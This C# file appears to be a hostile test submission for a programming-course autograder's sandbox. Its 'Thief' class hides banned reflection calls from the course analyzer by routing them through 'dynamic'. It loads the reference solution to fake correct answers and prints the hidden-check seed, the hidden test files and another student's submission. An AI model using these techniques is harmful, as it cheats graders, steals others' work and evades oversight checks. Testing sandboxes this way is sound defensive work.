namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        public double[] Sigmoid(double[] z) => Hostile.Thief.Sigmoid(z);
    }
}

namespace Hostile
{
    /// <summary>
    /// Reaches for the reference track, the hidden checks' seed and other people's files with every banned API
    /// called through <c>dynamic</c>, which the course analyzer cannot see into: only the sandbox stands in the way.
    /// </summary>
    internal static class Thief
    {
        private const string Reference = "DecodingChoices.Solutions.ReferenceExercises, DecodingChoices.Solutions";

        internal static double[] Sigmoid(double[] z)
        {
            Loot();
            return Track() is { } track ? track.Sigmoid(z) : throw new System.NotImplementedException();
        }

        internal static double[] ComputeH(double[] theta, double[,] X) =>
            Track() is { } track ? track.ComputeH(theta, X) : throw new System.NotImplementedException();

        /// <summary>Type.GetType(name), reached dynamically.</summary>
        private static dynamic TypeNamed(string name)
        {
            dynamic typeOfType = typeof(System.Type);
            return typeOfType.GetMethod("GetType", new[] { typeof(string) }).Invoke(null, new object[] { name });
        }

        /// <summary>A static method of a type named by a string, reached dynamically.</summary>
        private static dynamic Call(string typeName, string method, params object[] arguments)
        {
            dynamic type = TypeNamed(typeName);
            return type.GetMethod(method, arguments.Select(a => a.GetType()).ToArray()).Invoke(null, arguments);
        }

        private static DecodingChoices.Course.ICourseExercises? Track()
        {
            foreach (var find in new System.Func<dynamic>[]
            {
                () => TypeNamed(Reference),
                () => Call("System.Reflection.Assembly", "Load", "DecodingChoices.Solutions").GetType("DecodingChoices.Solutions.ReferenceExercises"),
                () => Call("System.Reflection.Assembly", "LoadFrom", "@@REPO@@/src/Solutions/bin/Debug/net10.0/DecodingChoices.Solutions.dll").GetType("DecodingChoices.Solutions.ReferenceExercises"),
            })
            {
                try
                {
                    dynamic type = find();
                    if (type is not null)
                    {
                        return (DecodingChoices.Course.ICourseExercises)Call("System.Activator", "CreateInstance", (object)type);
                    }
                }
                catch (System.Exception)
                {
                    // Try the next way in.
                }
            }

            return null;
        }

        /// <summary>Prints everything it can find: whatever it prints lands in its own student-facing output.</summary>
        private static void Loot()
        {
            Print(() => "@@MARKER@@ base directory: " + Call("System.AppContext", "GetData", "APP_CONTEXT_BASE_DIRECTORY"));
            Print(() => "seed: " + TypeNamed("DecodingChoices.Autograder.HiddenCheckSeed, DecodingChoices.Autograder").GetProperty("Base").GetValue(null));
            foreach (var path in new[]
            {
                "@@REPO@@/src/HiddenChecks/Exercise1B_SigmoidHiddenChecks.cs",
                "@@REPO@@/src/HiddenChecks/Exercise1D_LogisticLossHiddenChecks.cs",
                "@@REPO@@/src/Solutions/ReferenceExercises.cs",
                "@@SUBMISSIONS@@/honest-a/LogisticLoss.cs",
                "@@DATA@@",
            })
            {
                Print(() => path + ": " + Call("System.IO.File", "ReadAllText", path));
            }

            Print(() => string.Join(",", (string[])Call("System.IO.Directory", "GetFileSystemEntries", "@@SUBMISSIONS@@")));
            Print(() => string.Join(",", (string[])Call("System.IO.Directory", "GetFileSystemEntries", "@@REPO@@/src/HiddenChecks")));
        }

        private static void Print(System.Func<object> read)
        {
            try
            {
                System.Console.WriteLine(read());
            }
            catch (System.Exception e)
            {
                System.Console.WriteLine("@@MARKER@@ denied: " + e.GetType().Name);
            }
        }
    }
}
